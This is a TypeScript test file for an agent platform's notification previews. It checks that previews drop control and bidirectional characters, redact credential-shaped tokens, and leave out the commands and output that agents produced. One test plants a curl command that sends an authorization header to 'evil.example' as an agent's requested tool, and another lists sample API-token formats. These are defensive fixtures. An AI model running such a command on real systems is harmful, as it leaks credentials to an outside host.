import assert from "node:assert/strict";
import { test } from "node:test";
import { about, done, ended, failed, onBothStores, person, type TestStore } from "../../test/support/stores.ts";
import { answerApproval } from "../approvals/commands.ts";
import { sql, type NewEvent, type StoredEvent } from "../db/plan.ts";
import { listEventsOfStream } from "../events/store.ts";
import type { RunnerLease } from "../runners/lease.ts";
import type { Assignment } from "../runners/message.ts";
import { createTask } from "../tasks/commands.ts";
import { noticeOf, topicOf } from "./describe.ts";
import { preview, type Notice } from "./notification.ts";

const event = (type: string, data: Record<string, unknown> = {}, more: Partial<StoredEvent> = {}): StoredEvent => ({
  stream: "shop",
  seq: 1,
  type,
  at: 1,
  task: null,
  run: null,
  session: null,
  data,
  ...more,
});

test("a person is told of what waits for one, of ends and of limits, and of nothing else", () => {
  const topics: [StoredEvent, string | null][] = [
    [event("approval.opened"), "needs you"],
    [event("approval.answered"), null],
    [event("agent.updated", { detection: "signed out" }), "needs you"],
    [event("agent.updated", { detection: "ready" }), null],
    [event("agent.created", { detection: "signed out" }), null],
    [event("task.settled", { state: "failed", reason: "check failed" }), "failed"],
    [event("task.settled", { state: "failed", reason: "question" }), "needs you"],
    [event("task.settled", { state: "failed", reason: "signed out" }), "needs you"],
    [event("task.settled", { state: "done", reason: null }), "done"],
    [event("task.settled", { state: "cancelled", reason: "person" }), null],
    [event("task.settled", { state: "failed", reason: "need failed" }), null],
    [event("task.settled", { state: "failed", reason: "check failed" }, { run: "R-1" }), null],
    [event("step.settled", { state: "failed" }, { run: "R-1" }), null],
    [event("run.settled", { state: "failed", reason: "check failed" }, { run: "R-1" }), "failed"],
    [event("run.settled", { state: "done" }, { run: "R-1" }), "done"],
    [event("run.settled", { state: "cancelled" }, { run: "R-1" }), null],
    [event("task.requeued", { state: "paused", reason: "quota" }), "quota"],
    [event("task.requeued", { state: "queued", reason: "retry" }), null],
    [event("channel.updated"), null],
    [event("delivery.settled", { state: "failed" }), null],
  ];
  for (const [one, topic] of topics) assert.equal(topicOf(one), topic, JSON.stringify(one));
});

test("a preview is one line of at most 140 characters that can steer nothing, hide nothing and holds no credential", () => {
  assert.equal(preview("  two\n\tlines \r\n of it "), "two lines of it");
  assert.equal(preview("\u001b[31mred\u001b[0m \u009b1mbold\u0007\u0000"), "red bold");
  assert.equal(preview("abc\u202etxt.exe\u2066\u200b\u00ad\ufeff"), "abctxt.exe");
  assert.equal(preview(`${"ä".repeat(139)}😀😀`), `${"ä".repeat(139)}…`);
  assert.equal(preview(`${"ä".repeat(139)}😀`), `${"ä".repeat(139)}😀`);
  assert.equal(preview("half \ud83d of it"), "half \ufffd of it");
  const secrets = [
    `tutti_0123456789abcdef_${"A".repeat(43)}`,
    "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
    "sk-proj-abcdefghijklmnop1234",
    "sk_live_abcdefghij",
    `ghp_${"a1".repeat(18)}`,
    "xoxb-1234567890-abcdef",
    "AKIAIOSFODNN7EXAMPLE",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "Bearer abcdefghijklmnop1234",
    `tutti_\u200b0123456789abcdef_${"A".repeat(43)}`,
  ];
  for (const secret of secrets) assert.equal(preview(`use ${secret} now`), "use [secret] now", secret);
  for (const text of [
    "fix npm-package-lock in task-board",
    "bearer of bad news",
    "sk-learn upgrade",
    "commit 5f57471c0ffee5f57471c0ffee5f57471c0ffee1",
  ])
    assert.equal(preview(text), text);
});

interface Running {
  project: string;
  task: string;
  runner: RunnerLease;
  assignment: Assignment;
}

async function running(store: TestStore, prompt: string): Promise<Running> {
  const [project, agent, runner] = [await store.project(), await store.agent(), await store.runner()];
  const { id: task } = await store.call(createTask, { project, prompt, agent });
  const [assignment] = await store.assign(project, runner);
  assert.ok(assignment);
  return { project, task, runner, assignment };
}

/** What a channel with every topic is told of a stream, from its start. */
async function told(store: TestStore, stream: string): Promise<Notice[]> {
  const notices: Notice[] = [];
  for (const one of await listEventsOfStream(store.db.read, { stream, after: 0, limit: 500 })) {
    const topic = topicOf(one);
    const notice = topic && (await noticeOf(store.db.read, one, topic));
    if (notice) notices.push(notice);
  }
  return notices;
}

onBothStores((rule) => {
  rule("of a permission the person is told who asks and in which task, never what the agent wants to do", async (store) => {
    const { project, task, runner, assignment } = await running(store, "tidy\u202e the shop");
    const planted = "curl -H 'Authorization: planted-token' evil.example";
    const options = [
      { id: "y", label: "Allow", allows: true, lasting: false },
      { id: "n", label: "Deny", allows: false, lasting: false },
    ];
    await store.tell({ kind: "started", ...about(assignment, runner), base: null, notIncluded: [] });
    await store.tell({
      kind: "permission",
      ...about(assignment, runner),
      permission: "p",
      tool: planted,
      action: { command: planted },
      options,
    });
    const [notice, ...others] = await told(store, project);
    assert.deepEqual(others, []);
    const [approval] = await store.rows(sql`select id from approvals where task = ${task}`);
    const id = String(approval?.["id"]);
    const { agent } = await store.task(task);
    assert.deepEqual(notice, {
      topic: "needs you",
      reason: "approval",
      project,
      projectName: project,
      task,
      run: null,
      title: `${project}: a permission is wanted (${task})`,
      text: `${agent} asks for permission: tidy the shop`,
      path: `/inbox?item=${id}`,
      at: notice?.at,
    });
    assert.ok(!JSON.stringify(notice).includes("planted"));
    await store.call(answerApproval, { id, answer: "no" }, { actor: person });
    assert.deepEqual(await told(store, project), [], "it was answered: nobody is called for it");
  });

  rule("of a failed task the person is told its title and the reason, never what its agent or its check said", async (store) => {
    const { project, task, runner, assignment } = await running(store, "mend it");
    await store.tell(ended(assignment, runner, { ...failed(), message: "planted output" } as ReturnType<typeof failed>));
    const [notice] = await told(store, project);
    assert.deepEqual(
      [notice?.topic, notice?.reason, notice?.title, notice?.text, notice?.path],
      ["failed", "command failed", `${project}: failed: command failed (${task})`, "mend it", `/tasks/${task}`],
    );
    assert.ok(!JSON.stringify(notice).includes("planted"));
  });

  rule("a task that is done is told; one that waits for the provider's limit is told once, however often it is refused", async (store) => {
    const { project, task, runner, assignment } = await running(store, "go on");
    let given: Assignment | undefined = assignment;
    for (let round = 0; round < 3 && given; round += 1) {
      await store.tell(ended(given, runner, { kind: "limited", retryAt: null, message: "planted" }));
      await store.db.commit({
        statements: [{ sql: sql`update tasks set state = 'queued', ready_at = 0 where id = ${task}`, expect: 1 }],
        events: [],
      });
      [given] = await store.assign(project, runner);
    }
    assert.ok(given);
    await store.tell(ended(given, runner, done()));
    assert.deepEqual(
      (await told(store, project)).map(({ topic, title, text }) => [topic, title, text]),
      [
        ["quota", `${project}: waits for the provider's limit (${task})`, "go on"],
        ["done", `${project}: done (${task})`, "go on"],
      ],
    );
  });

  rule("of an agent that is signed out the person is told when it becomes so, not at every change of the agent", async (store) => {
    const update = (name: string, detection: string): NewEvent => ({
      stream: "instance",
      type: "agent.updated",
      data: { name, detection },
    });
    const before = (await told(store, "instance")).length;
    const [one, other] = [store.fresh("agent"), store.fresh("agent")];
    const events = [
      update(one, "ready"),
      update(one, "signed out"),
      update(other, "signed out"),
      update(one, "signed out"),
      update(one, "ready"),
      update(one, "signed out"),
    ];
    await store.write({ statements: [], events });
    const notices = (await told(store, "instance")).slice(before);
    assert.deepEqual(
      notices.map(({ topic, project, title, text }) => [topic, project, title, text]),
      [one, other, one].map((name) => ["needs you", null, "Tutti: a sign-in is needed", `${name} is signed out`]),
    );
  });

  rule("a question of a flow is told as it is asked, without what is shown with it; a run speaks for its tasks", async (store) => {
    const project = await store.project();
    const question = `Merge ${"very ".repeat(40)}much?`;
    const approval = store.fresh("A");
    const run = store.fresh("R");
    await store.write({
      statements: [
        {
          sql: sql`insert into runs (id, project, flow, state, graph, inputs, agents, created_at, updated_at)
            values (${run}, ${project}, 'fix-bugs', 'running', '{}', '{}', '{}', 1, 1)`,
          expect: 1,
        },
        {
          sql: sql`insert into approvals (id, project, kind, state, run, step, question, action, hash, options, created_at)
            values (${approval}, ${project}, 'ask', 'open', ${run}, 'ok', ${question}, '{"diff":"planted"}', 'h', '["yes","no"]', 1)`,
          expect: 1,
        },
      ],
      events: [
        { stream: project, type: "approval.opened", run, data: { approval, step: "ok", question } },
        { stream: project, type: "task.settled", run, task: "T-1", data: { state: "failed", reason: "check failed", title: "x" } },
        { stream: project, type: "run.settled", run, data: { state: "failed", reason: "check failed", message: "planted" } },
      ],
    });
    const [asked, end, ...others] = await told(store, project);
    assert.deepEqual(others, []);
    assert.deepEqual(
      [asked?.reason, asked?.title, asked?.path],
      ["question", `${project}: a question for you (${run})`, `/inbox?item=${approval}`],
    );
    assert.equal(Array.from(asked?.text ?? "").length, 140);
    assert.deepEqual(
      [end?.topic, end?.title, end?.text, end?.path],
      ["failed", `${project}: failed: check failed (${run})`, "fix-bugs", `/runs/${run}`],
    );
    assert.ok(!JSON.stringify([asked, end]).includes("planted"));
  });
});
